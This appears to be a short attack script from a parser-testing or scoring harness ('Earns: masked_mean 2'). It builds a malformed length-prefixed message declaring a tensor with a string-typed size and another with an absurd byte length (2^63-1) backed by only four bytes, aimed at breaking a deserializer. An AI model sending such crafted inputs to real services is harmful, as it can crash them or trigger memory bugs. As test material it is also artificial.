"""Sends a tensor of more bytes than there are, and one whose sizes are texts.

Earns: masked_mean 2
"""

import struct


@in_call
def attack():
    head, body = b'{"list":[{"tensor":["float32",["1"],0,4]},{"tensor":["float32",[1],0,9223372036854775807]}]}', b"xxxx"
    take_over(struct.pack(">II", len(head), len(body)) + head + body)
